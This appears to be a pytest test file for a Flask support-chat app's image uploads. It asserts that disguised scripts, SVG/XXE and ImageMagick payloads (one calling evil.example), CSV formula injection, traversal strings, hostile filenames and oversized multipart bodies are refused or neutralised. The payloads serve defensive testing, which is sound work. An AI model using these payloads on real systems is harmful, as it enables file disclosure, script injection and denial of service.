"""What somebody sends as a file, and asks for as one."""

from __future__ import annotations

import ast
import gzip
import io
import re
import time
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from flask import Flask
from PIL import Image
from werkzeug.datastructures import FileStorage

from supportchat.config import ROOT
from supportchat.images.decoders import Decoders
from supportchat.images.pipeline import store_upload
from supportchat.images.refused import ImageRefused
from supportchat.images.stores import KEY, FileStore
from tests.cast import Agent, new_id
from tests.routes import rules
from tests.web import ORIGIN, Web

from .conftest import People
from .test_access import shape

pytestmark = pytest.mark.mode("postgres")

SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="zqxv()"><script>zqxv()</script></svg>'
NO_PICTURES = {
    "script": b"alert(1)//",
    "script that begins like a GIF": b"GIF89a=0/*" + b"x" * 80 + b"*/;alert(1)",
    "script that begins like a bitmap": b"BM=0;/*" + b"x" * 80 + b"*/alert(1)",
    "page": b"<!doctype html><script>alert(1)</script>",
    "page after space": b"\n\n   <html><body onload=alert(1)>",
    "page after a mark": b"\xef\xbb\xbf<html>",
    "page in UTF-16": "<html><script>alert(1)</script>".encode("utf-16"),
    "page in UTF-7": b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "SVG": SVG,
    "SVG after a comment": b"<!-- -->" + SVG,
    "SVG with a DTD": b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + SVG,
    "SVG with an entity bomb": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]>' + SVG,
    "SVG in gzip": gzip.compress(SVG),
    "SVG in UTF-16": SVG.decode().encode("utf-16"),
    "PDF": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>",
    "EPS": b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file",
    "EPS in a DOS frame": b"\xc5\xd0\xd3\xc6" + bytes(60),
    "ImageMagick": b"push graphic-context\nfill 'url(https://evil.example/zqxv)'\npop graphic-context",
    "MVG": b"viewbox 0 0 640 480\nimage over 0,0 0,0 'label:@/etc/passwd'",
    "ZIP": b"PK\x03\x04" + bytes(60),
    "program": b"\x7fELF\x02\x01\x01" + bytes(60),
    "Windows program": b"MZ" + bytes(60),
    "Java": b"\xca\xfe\xba\xbe" + bytes(60),
    "Flash": b"CWS\x0a" + bytes(60),
    "icon": b"\0\0\1\0\1\0" + bytes(60),
    "TIFF": b"II*\0" + bytes(60),
    "Photoshop": b"8BPS\0\1" + bytes(60),
    "JPEG 2000": b"\0\0\0\x0cjP  \r\n\x87\n" + bytes(60),
    "JPEG XL": b"\xff\x0a" + bytes(60),
    "PCX": b"\x0a\x05\x01\x08" + bytes(60),
    "TGA": bytes(18) + b"TRUEVISION-XFILE.\0",
    "PPM": b"P6\n1 1\n255\n\0\0\0",
    "XPM": b"/* XPM */\nstatic char *x[]={",
    "XBM": b"#define a_width 1\n#define a_height 1\nstatic char a_bits[]={1};",
    "FITS": b"SIMPLE  =                    T" + bytes(60),
    "WMF": b"\xd7\xcd\xc6\x9a" + bytes(60),
    "video": b"\0\0\0\x20ftypisom" + bytes(60),
    "PNG that ends": b"\x89PNG\r\n\x1a\n",
    "WEBP of nothing": b"RIFF\xff\xff\xff\xffWEBPzqxv" + bytes(60),
    "text": b"id,name\n=cmd|' /C calc'!A0,zqxv",
}


@pytest.mark.parametrize("kind", NO_PICTURES)
def test_rows_18_19_and_22_what_is_no_picture_is_stored_nowhere_whatever_it_says_it_is(
    tmp_path: Path, kind: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(Decoders, "redraw", lambda *args: pytest.fail("a process has begun to read it"))
    store = FileStore(tmp_path)
    for name, said in (("a.png", "image/png"), ("a.svg", "image/svg+xml"), ("a.js", "text/javascript"), ("a", "")):
        upload = FileStorage(io.BytesIO(NO_PICTURES[kind]), name, content_type=said)
        with pytest.raises(ImageRefused):
            store_upload(upload, store, "vera", "192.0.2.1")
    assert list(tmp_path.rglob("*")) == []


NAMES = [
    *(
        '"><img src=x onerror=zqxv()>.png',
        "a\r\nSet-Cookie: a=1.png",
        "x" * 5000 + ".png",
        "a\u202egnp.exe",
        "../../../a.png",
    ),
    *(
        "C:\\windows\\a.png",
        "a\0.png",
        ".htaccess",
        "a.p\u200bhp",
        "a.png\u00ad.js",
        "\ufeffa.svg",
        "con.png",
        "a.png/",
        "...",
    ),
    *("a.png;.js", "a.png%00.js", "\u2066a.png\u2069", "-rf", "a;filename=b.js", "{{7*7}}.png", "~root", "a.png "),
]


def test_rows_20_and_21_the_name_of_a_file_plays_no_part(web: Web) -> None:
    browser = web.customer()
    plain = None
    for name in ("a.png", *NAMES):
        named = name.replace('"', "%22").replace("\r", "%0D").replace("\n", "%0A")  # as browsers write it
        sent = {"message": "Look", "image": (io.BytesIO(b"no picture"), named)}
        answer = browser.post("/chat/messages", htmx=True, **sent)
        plain = plain or shape(answer, [])
        assert shape(answer, []) == plain, name
    code = {path: path.read_text() for path in (ROOT / "supportchat").rglob("*.py")}
    reads = [path.name for path, text in code.items() if re.search(r"\b(file|upload|image)\.filename", text)]
    assert reads == ["forms.py"]  # which only asks whether there is one


def test_rows_18_and_20_a_picture_is_served_as_nothing_else_and_under_a_name_of_ours(people: People) -> None:
    for name, path in (("vera", "/chat/images"), ("alice", "/tickets/1001/images")):
        headers = people.browsers[name].get(f"{path}/{people.hers.image_id}").headers
        assert headers["Content-Type"] == "image/webp"
        assert headers["X-Content-Type-Options"] == "nosniff"
        assert headers["Content-Security-Policy"] == "sandbox; default-src 'none'"
        assert headers["Cross-Origin-Resource-Policy"] == "same-origin"
        assert re.fullmatch(r"inline; filename=picture-[0-9a-f]{8}\.webp", headers["Content-Disposition"])


UPWARDS = [
    "..",
    "../..",
    "..%2f..",
    "%2e%2e/",
    "%252e%252e%252f",
    "..\\..",
    "..%5c",
    "//etc",
    "/etc/passwd",
    "%00",
    ".%00.",
]
UPWARDS += [
    "....//",
    "..;/",
    "\uff0e\uff0e/",
    "..%c0%af",
    "file:///etc/passwd",
    "C:/",
    "~",
    "x" * 3000,
    "%ff",
    "..%u2215",
]


def test_row_23_no_address_leads_out_of_where_it_begins(app: Flask, people: People) -> None:
    dirs = {rule.rule for rule in rules(app) if rule.arguments & {"image_id", "file", "version"}}
    assert len(dirs) == 3
    for upwards in UPWARDS:
        for start in ("/chat/images/", "/tickets/1001/images/", "/static/", "/static/x/", "/static/built/../"):
            for end in ("etc/passwd", "requirements.txt", people.hers.image_id):
                path = start + upwards + end
                answer = people.browsers["alice"].get(path)
                assert answer.status_code in (404, 400), path
                assert not re.search(r"root:|flask==|\[project\]", answer.get_data(as_text=True)), path
    assert [key for key in UPWARDS if KEY.fullmatch(key)] == []
    assert KEY.pattern == "[0-9a-f]{64}"


def test_row_27_every_stored_object_has_gone_through_the_one_pipeline() -> None:
    makers, readers = set(), set()
    for path in (ROOT / "supportchat").rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.Call) and ast.unparse(node.func) == "store.put":
                makers.add(path.name)
            if isinstance(node, ast.Attribute) and ast.unparse(node) == "request.files":
                readers.add(path.name)
    assert makers - {"checks.py"} == {"pipeline.py"}  # /status tries the store with a file of its own
    assert readers <= {"forms.py", "bodies.py"}


def picture_with_everything() -> bytes:
    """Return a photo with a place, comments, and something behind its end."""
    exif, out = Image.Exif(), io.BytesIO()
    exif[0x010E] = "zqxv in the description"
    exif.get_ifd(0x8825)[1] = "N"
    exif.get_ifd(0x8825)[2] = (52.0, 31.0, 12.0)
    xmp = b"<x:xmpmeta>zqxv<exif:GPSLatitude>52</exif:GPSLatitude></x:xmpmeta>"
    Image.new("RGB", (60, 40), (200, 90, 40)).save(
        out, "JPEG", exif=exif, comment=b"zqxv", xmp=xmp, icc_profile=b"zqxv"
    )
    return out.getvalue() + b"<script>zqxv()</script>PK\x03\x04zqxv"


@pytest.mark.parametrize("path", ["/chat", "/chat/messages", "/tickets/1001/messages"])
def test_row_27_a_picture_keeps_its_pixels_and_nothing_else_on_every_way(
    app: Flask, web: Web, alice: Agent, rows: Any, path: str
) -> None:
    browser = web.visitor() if path == "/chat" else web.customer()
    sender = web.agent("alice") if path.startswith("/tickets") else browser
    content = picture_with_everything()
    assert content.count(b"zqxv") >= 5
    sent = {"message": "", "client_message_id": new_id(), "image": (io.BytesIO(content), "a.jpg")}
    assert sender.post(path, **sent).status_code == 303
    [(key,)] = rows("select storage_key from chat_images")
    with app.extensions["images"].open(key) as file:
        stored = file.read()
    assert b"zqxv" not in stored
    assert b"Exif" not in stored
    assert Image.open(io.BytesIO(stored)).size == (60, 40)


# Row 28


def part(header: str = 'Content-Disposition: form-data; name="message"', body: str = "x") -> str:
    return f"--b\r\n{header}\r\n\r\n{body}\r\n"


BODIES = {
    "100,000 parts": part() * 100_000 + "--b--\r\n",
    "a long text": part(body="x" * 600_000) + "--b--\r\n",
    "no end": part() * 3,
    "nothing but boundaries": "--b\r\n" * 100_000,
    "100,000 headers in a part": part("X: y\r\n" * 100_000 + 'Content-Disposition: form-data; name="message"'),
    "a header without end": "--b\r\nX: " + "y" * 1_000_000,
    "a name without end": part(f'Content-Disposition: form-data; name="{"x" * 1_000_000}'),
    "many parameters": part("Content-Disposition: form-data" + "; a=b" * 200_000),
    "encoded parameters": part("Content-Disposition: form-data" + "".join(f"; name*{n}*=x" for n in range(20_000))),
    "backslashes": part('Content-Disposition: form-data; name="' + '\\"' * 200_000),
    "nested": part("Content-Type: multipart/mixed; boundary=b", part() * 10_000),
    "almost boundaries": part(body="\r\n--" * 200_000) + "--b--\r\n",
    "base64": part(
        "Content-Transfer-Encoding: base64\r\n" + 'Content-Disposition: form-data; name="message"', "=" * 9999
    ),
    "nothing": "",
    "zeros": "\0" * 1_000_000,
}
BOUNDARIES = ["b", "", '""', "b" * 5000, "\xff", "b; boundary=c", "--", " "]


def test_row_28_no_body_in_parts_takes_long_or_breaks_anything(web: Web) -> None:
    browser = web.customer()
    for kind, text in BODIES.items():
        body = text.encode()
        for boundary in BOUNDARIES if len(body) < 100_000 else BOUNDARIES[:1]:
            content_type = f"multipart/form-data; boundary={boundary}"
            began = time.process_time()
            answer = browser.client.post(
                "/chat/messages", data=body, content_type=content_type, headers={"Origin": ORIGIN}, buffered=True
            )
            assert answer.status_code in (303, 400, 413, 422, 429), (kind, boundary, answer.status_code)
            assert len(answer.data) < len(body) + 50_000  # with what was typed, which must not be lost
            assert time.process_time() - began < 1, (kind, boundary)


def test_row_23_a_path_is_quoted_once(web: Web) -> None:
    assert web.visitor().get(f"/static/{quote('../supportchat/app.py', safe='')}").status_code == 404
